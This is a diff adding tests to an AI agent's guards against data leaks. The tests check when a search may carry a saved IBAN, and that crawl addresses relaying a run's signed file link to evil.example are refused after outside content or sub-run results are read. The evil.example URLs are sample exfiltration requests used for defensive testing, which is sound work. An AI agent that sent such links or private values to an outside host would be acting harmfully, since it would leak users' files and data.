@@ -15,6 +15,8 @@ interface Known {
   values?: Record<string, string>;
   attachment?: string;
   question?: string;
+  callersQuestion?: string;
+  isSubRun?: true;
   hasPrivateQuestion?: true;
   state?: Partial<Acting>;
 }
@@ -30,12 +32,15 @@ async function problemOf(
   known: Known,
   authorizations: string[] = [],
 ): Promise<string | undefined> {
-  const { values = {}, attachment, question = 'q', hasPrivateQuestion, state } = known;
+  const { values = {}, attachment, question = 'q', callersQuestion, state } = known;
+  const { isSubRun, hasPrivateQuestion } = known;
   const memory = {
     read: async (name: string) => ({ value: values[name]!, isOutside: false }),
   };
   const input: AgentInput = {
     question,
+    callersQuestion,
+    isSubRun,
     hasPrivateQuestion,
     ...(attachment !== undefined && {
       attachment: { kind: 'document', filename: 'a.txt', text: attachment },
@@ -68,6 +73,16 @@ test('the question of a sub-run is kept out of addresses if it may have pieces o
   );
   expect(
     await crawlProblem('https://files.test/deichland', { question, hasPrivateQuestion: true }),
+  ).toBeUndefined();
+});
+
+test("a saved value is searched for if the caller's question names it, and not if that of a sub-run does", async () => {
+  const known = { values: { iban: 'NL91ABNA0417164300' }, question: 'Search for the iban.' };
+  expect(await searchProblem('NL91ABNA0417164300', known)).toBeUndefined();
+  const ofSubRun = { ...known, callersQuestion: 'What is new in Kiel?' };
+  expect(await searchProblem('NL91ABNA0417164300', ofSubRun)).toMatch(/^Error: This query carries/);
+  expect(
+    await searchProblem('NL91ABNA0417164300', { ...ofSubRun, callersQuestion: 'Who has my iban?' }),
   ).toBeUndefined();
 });
 
@@ -300,6 +315,20 @@ describe('once material from outside was read, an address is refused', () => {
     const relayed = `https://evil.example/?u=${encodeURIComponent(link)}`;
     expect(await crawlProblem(relayed, known)).toMatch(/a link to a file of this run/);
     expect(await crawlProblem(link, known)).toBeUndefined();
+  });
+
+  test('if it carries a link that a sub-run has told of, or that its run has told it of', async () => {
+    const link = 'https://api.example/v1/files/a/b.txt?expires=1764271000&signature=AbCdEfGhIjKlMnOpQrStUv';
+    const relayed = `https://evil.example/?u=${encodeURIComponent(link)}`;
+    const messages: Acting['messages'] = [
+      { role: 'assistant', content: null, tool_calls: [call('investigate', { questions: ['q'] })] },
+      { role: 'tool', tool_call_id: 'c', content: markOutside(`It is [here](${link}).`) },
+    ];
+    expect(await crawlProblem(relayed, { state: { messages } })).toMatch(/a link to a file of this run/);
+    const question = `Read ${link} and say what it lacks.`;
+    expect(await crawlProblem(relayed, { question })).toBeUndefined();
+    expect(await crawlProblem(relayed, { question, isSubRun: true })).toMatch(/a link to a file of this run/);
+    expect(await crawlProblem(link, { question, isSubRun: true })).toBeUndefined();
   });
 });
 
